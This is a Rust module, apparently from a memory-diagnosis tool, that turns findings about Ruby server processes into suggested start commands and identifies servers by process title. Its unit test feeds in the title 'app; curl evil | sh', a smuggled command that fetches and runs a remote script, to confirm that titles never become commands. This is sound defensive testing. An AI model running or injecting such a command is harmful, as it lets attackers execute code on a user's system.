//! Advice: the action to take on a finding, as data that a renderer turns into lines to copy.

use serde::{Deserialize, Serialize};
use unbloat_process::Pid;

/// An action to take on a finding.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub enum Action {
    /// Return its freed memory now.
    Trim(Pid),
    /// Inspect again with permission to read its memory.
    InspectAsRoot(Pid),
    /// Inspect it every minute.
    Watch(Pid),
    /// Inspect it again while it is stopped.
    Stop(Pid),
    /// Ask what its runtime did.
    Status(Pid),
    /// Start it with `unbloat run`.
    Run {
        /// The server to start.
        server: Server,
        /// Name the default policy explicitly, because another is in force.
        name_policy: bool,
    },
    /// Start it with a limit on glibc's arenas.
    LimitArenas {
        /// Maximum number of arenas.
        arenas: u16,
        /// The server to start.
        server: Server,
    },
    /// Start it with Debian's jemalloc.
    PreloadJemalloc,
    /// Compact the Ruby heap before it is shared.
    Compact {
        /// The method that does it in this Ruby.
        call: Compaction,
        /// The server to start.
        server: Server,
    },
    /// Load the application before the workers are forked.
    PreloadApp,
}

/// A method that compacts the Ruby heap.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Compaction {
    /// `Process.warmup`, from Ruby 3.3 on.
    Warmup,
    /// `GC.compact`, from Ruby 2.7 on.
    Compact,
}

/// A server, as far as its process title reveals. A title is not a command line: the words that start it are
/// either known or not.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
pub enum Server {
    /// Puma.
    Puma,
    /// Sidekiq.
    Sidekiq,
    /// Unicorn.
    Unicorn,
    /// Falcon.
    Falcon,
    /// GoodJob.
    GoodJob,
    /// Something else.
    Other,
}

impl Server {
    /// Identifies the server by its process title.
    #[must_use]
    pub fn of_title(title: &str) -> Self {
        const KNOWN: [(&str, Server); 5] = [
            ("puma", Server::Puma),
            ("sidekiq", Server::Sidekiq),
            ("unicorn", Server::Unicorn),
            ("falcon", Server::Falcon),
            ("good_job", Server::GoodJob),
        ];
        KNOWN.into_iter().find(|(name, _)| title.contains(name)).map_or(Server::Other, |(_, server)| server)
    }

    /// The words that start it.
    #[must_use]
    pub fn start(self) -> &'static [&'static str] {
        match self {
            Server::Puma => &["bundle", "exec", "puma"],
            Server::Sidekiq => &["bundle", "exec", "sidekiq"],
            Server::Unicorn => &["bundle", "exec", "unicorn"],
            Server::Falcon => &["bundle", "exec", "falcon"],
            Server::GoodJob => &["bundle", "exec", "good_job"],
            Server::Other => &["YOUR", "COMMAND"],
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_title_tells_the_server_and_is_never_its_command() {
        assert_eq!(Server::of_title("puma: cluster worker 0: 12 [app]").start(), ["bundle", "exec", "puma"]);
        assert_eq!(Server::of_title("app; curl evil | sh").start(), ["YOUR", "COMMAND"]);
    }
}
